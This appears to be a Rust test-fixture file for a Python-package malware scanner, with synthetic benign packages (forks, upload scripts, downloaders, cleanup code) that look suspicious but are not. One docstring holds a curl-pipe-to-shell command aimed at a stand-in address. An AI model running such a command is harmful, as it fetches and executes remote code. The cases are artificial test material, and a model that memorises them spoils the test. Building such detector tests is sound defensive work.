//! Families 34 and 35: projects that are new, forked or busy, and the noise that all projects make.

use crate::case::{Cases, Trigger::Build, Trigger::Import};
use crate::package::{init, module, sdist, setup, wheel};

pub(crate) fn add(cases: &mut Cases) {
    cases
        .family(34, "new-forked-or-busy-projects", Import)
        .case("first-release", wheel().version("0.0.1").file("«pkg»/core.py", r#"
"""Reads weather from a public service."""
import json
from dataclasses import dataclass
from urllib.parse import urlencode
from urllib.request import urlopen


@dataclass
class Report:
    city: str
    temperature: float


def fetch(city, *, timeout=10):
    query = urlencode({"q": city, "format": "json"})
    with urlopen(f"https://weather.example.com/v1?{query}", timeout=timeout) as answer:
        data = json.load(answer)
    return Report(city, float(data["t"]))
"#))
        .case("fork", wheel().named("zephyrlane-ng").version("2.1.0.post1").metadata("Project-URL: Source, https://github.com/example-fork/zephyrlane\n").file("«pkg»/__init__.py", "\"\"\"A maintained fork of an abandoned project; same interface.\"\"\"\nimport warnings\n\nfrom .text import shorten\n\nwarnings.warn('the project moved, see the change log', DeprecationWarning, stacklevel=2)\n"))
        .case("new-maintainer", sdist().file("CHANGELOG.md", "# 1.0.2\n\n* The project has a new home and a new maintainer.\n").file("«pkg»/__init__.py", "__version__ = '«version»'\n__author__ = 'B. Other'\n"))
        .case("hot-fix", init("from .text import shorten\n\n__version__ = '«version»'\n\n\ndef fixed(value):\n    return shorten(value or '')\n"));
    cases
        .family(35, "everyday-noise", Build)
        .case("twine-upload", setup(r#"
import os, sys
from shutil import rmtree
from setuptools import Command, find_packages, setup

class UploadCommand(Command):
    description = "Build and publish the package."
    user_options = []
    def initialize_options(self): pass
    def finalize_options(self): pass
    def run(self):
        rmtree(os.path.join(os.path.dirname(__file__), "dist"), ignore_errors=True)
        os.system("{0} setup.py sdist bdist_wheel --universal".format(sys.executable))
        os.system("twine upload dist/*")
        os.system("git tag v«version»")
        os.system("git push --tags")
        sys.exit()

setup(name="«name»", version="«version»", packages=find_packages(), cmdclass={"upload": UploadCommand})
"#))
        .case("test-command", setup(r#"
import subprocess, sys, platform
from setuptools import setup, find_packages
from setuptools.command.test import test as TestCommand
from setuptools.command.install import install

class PyTest(TestCommand):
    def run_tests(self):
        sys.exit(subprocess.call([sys.executable, "-m", "pytest"]))

class Install(install):
    def run(self):
        if sys.version_info < (3, 7):
            sys.exit("Python 3.7 is needed; on %s install it first" % platform.system())
        install.run(self)

setup(name="«name»", version="«version»", packages=find_packages(), cmdclass={"test": PyTest, "install": Install})
"#))
        .case("gettext", setup(r#"
import glob, os, subprocess
from setuptools import setup, find_packages
from setuptools.command.build_py import build_py

class Build(build_py):
    def run(self):
        for po in glob.glob("po/*.po"):
            subprocess.check_call(["msgfmt", "-o", po[:-2] + "mo", po])
        build_py.run(self)

if "darwin" in __import__("sys").platform:
    os.environ.setdefault("MACOSX_DEPLOYMENT_TARGET", "11.0")
setup(name="«name»", version="«version»", packages=find_packages(), cmdclass={"build_py": Build})
"#))
        .at(Import)
        .case("plugin-download-on-request", wheel().file("«pkg»/models.py", r#"
import hashlib, os, shutil, tempfile, urllib.request, zipfile
URLS = {"base": ("https://models.example.com/base.zip", "6f0c1e2d3b4a5968778695a4b3c2d1e0f9e8d7c6b5a493827160f5e4d3c2b1a0")}

def download(name, root="~/.cache/«pkg»"):
    url, expected = URLS[name]
    root = os.path.expanduser(root)
    os.makedirs(root, exist_ok=True)
    target = os.path.join(root, os.path.basename(url))
    if not os.path.isfile(target):
        urllib.request.urlretrieve(url, target)
    with open(target, "rb") as f:
        if hashlib.sha256(f.read()).hexdigest() != expected:
            raise RuntimeError("the model was changed on the way")
    with zipfile.ZipFile(target) as z:
        z.extractall(root)
    return root
"#))
        .case("self-update", wheel().file("«pkg»/upgrade.py", r#"
import subprocess, sys
def upgrade(argv=None):
    """`NAME upgrade`: replaces this program by its newest version."""
    return subprocess.call([sys.executable, "-m", "pip", "install", "--upgrade", "«name»"])
"#))
        .case("debug-environment", module(r#"
import logging, os, pprint, sys, getpass, socket
log = logging.getLogger(__name__)

def report():
    """What to attach to a bug report; the user copies it by hand."""
    return pprint.pformat({"python": sys.version, "user": getpass.getuser(), "host": socket.gethostname(),
                           "environment": {k: v for k, v in os.environ.items() if k.startswith("PY")}})

def child_environment():
    env = dict(os.environ)
    env.pop("PYTHONHOME", None)
    return env
"#))
        .case("cleanup", module(r#"
import glob, os, shutil, tempfile
def clean(root="build"):
    shutil.rmtree(root, ignore_errors=True)
    for path in glob.glob(os.path.join(tempfile.gettempdir(), "«pkg»-*")):
        os.remove(path)
def reset_cache():
    shutil.rmtree(os.path.join(os.path.expanduser("~"), ".cache", "«pkg»"), ignore_errors=True)
"#))
        .case("docs-say-exec", init("\"\"\"Never write exec(base64.b64decode(x)).\n\n>>> import os; os.system('curl http://192.0.2.8/x | sh')  # doctest: +SKIP\n\"\"\"\nfrom .text import shorten\n"))
        .case("program-beside-library", init("from .text import shorten\n").file("«pkg»/__main__.py", r#"
import sys
from .cli import main
if len(sys.argv) > 2 and sys.argv[1] == "--copy":
    import pyperclip
    pyperclip.copy(sys.argv[2])
else:
    main()
"#).file("«pkg»/cli.py", r#"
import json, os, subprocess, sys, urllib.request

def main():
    token = os.environ.get("SERVICE_TOKEN", "")
    request = urllib.request.Request("https://api.service.example.invalid/v1/me", headers={"Authorization": "Bearer " + token})
    print(json.load(urllib.request.urlopen(request)))
    subprocess.run([sys.executable, "-c", f"import sys\nsys.path = [p for p in sys.path if p]\nprint({sys.argv!r})\n"], check=False)
"#).file("«pkg»/bench.py", "from .cli import main\n\nif __name__ == \"__main__\":\n    main()\n"))
        .case("aligned-far-right", init("from .text import shorten\n").bytes("«pkg»/far.py",
            format!("def f(*args): return args\n\nvalue = f({}, (\n{}2, 3))\n", "1111, ".repeat(20).trim_end_matches(", "), " ".repeat(124)).into_bytes()))
        .case("wrapped-requests", init(r#"
import builtins, functools, http.client
_request = http.client.HTTPConnection.request

@functools.wraps(_request)
def request(self, *args, **kwargs):
    kwargs.setdefault("headers", {})["x-trace"] = "1"
    return _request(self, *args, **kwargs)

http.client.HTTPConnection.request = request
"#));
}
